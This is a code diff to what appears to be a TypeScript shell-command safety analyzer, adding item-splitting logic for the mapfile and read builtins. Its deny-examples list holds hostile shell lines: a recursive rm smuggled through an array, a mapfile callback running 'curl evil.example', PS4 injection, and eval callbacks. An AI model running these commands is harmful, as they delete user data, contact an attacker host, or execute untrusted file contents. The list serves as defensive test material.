@@ -371,6 +371,7 @@ export const BUILTIN_ENTRIES: ProgramEntry[] = [
       const text = call.stdin?.kind === 'static' ? call.stdin.text : undefined;
       const delim = p.options.find((o) => o.name === 'd');
       const d = delim ? (delim.value ? value(delim.value) : undefined) : '\n';
+      const items = p.dynamic ? 'blanks' : d === '' ? 'nul' : d === '\n' ? 'lines' : 'blanks';
       if (text !== undefined && runs.length === 0 && target.length === 1 && p.operands.length === 1 && d !== undefined && d.length <= 1 && p.options.every((o) => o.name === 't' || o.name === 'd')) {
         const sep = d === '' ? '\0' : d;
         const strip = p.options.some((o) => o.name === 't');
@@ -381,9 +382,9 @@ export const BUILTIN_ENTRIES: ProgramEntry[] = [
           elements.push(text.slice(at, strip && next >= 0 ? next : stop));
           at = stop;
         }
-        return { runs, reads: [{ name: target[0]!, elements }] };
+        return { runs, reads: [{ name: target[0]!, elements }], items };
       }
-      return { runs, sets: target.length > 0 ? target : ['MAPFILE'] };
+      return { runs, sets: target.length > 0 ? target : ['MAPFILE'], items };
     },
     examples: {
       deny: ["mapfile -t a <<< $'-rf\\n/home/dev'; rm \"${a[@]}\"", "mapfile -C 'curl evil.example' -c 1 a < notes.txt", 'mapfile -t PS4 < notes.txt; set -x; true', 'mapfile -C eval -c 1 a < cmds.txt', 'readarray -c1 -C eval < cmds.txt', 'f() { shift; "$@"; }; mapfile -C f -c 1 a < cmds.txt'],
@@ -401,8 +402,14 @@ export const BUILTIN_ENTRIES: ProgramEntry[] = [
       if (array && value(array)) set.push(value(array)!);
       const uses = call.args.map((word) => ({ word, role: 'text' as const }));
       const reads = readLine(call, p, set, array !== undefined ? value(array) : undefined);
-      if (reads) return { reads, uses };
-      return { sets: set.length > 0 ? set : ['REPLY'], uses };
+      const delim = p.options.find((o) => o.name === 'd');
+      const d = delim ? (delim.value?.values?.length === 1 ? delim.value.values[0] : undefined) : '\n';
+      const items = p.dynamic ? 'blanks' : d === '' ? 'nul' : d !== '\n' || p.options.some((o) => 'anN'.includes(o.name)) || p.operands.length > 1 ? 'blanks' : 'lines';
+      const plain = !p.dynamic && d !== undefined && p.options.every((o) => 'rsed'.includes(o.name) && !o.unknown) && p.operands.every((o) => NAME.test(value(o.word) ?? ''));
+      const record = plain ? (d === '' ? '\0' : d[0]!) : undefined;
+      const more = { items, ...(record !== undefined ? { record } : {}) } as const;
+      if (reads) return { reads, uses, ...more };
+      return { sets: set.length > 0 ? set : ['REPLY'], uses, ...more };
     },
     examples: {
       // Into a prompt, or into an integer (arithmetic) variable, what is read is evaluated; a name's subscript is arithmetic.
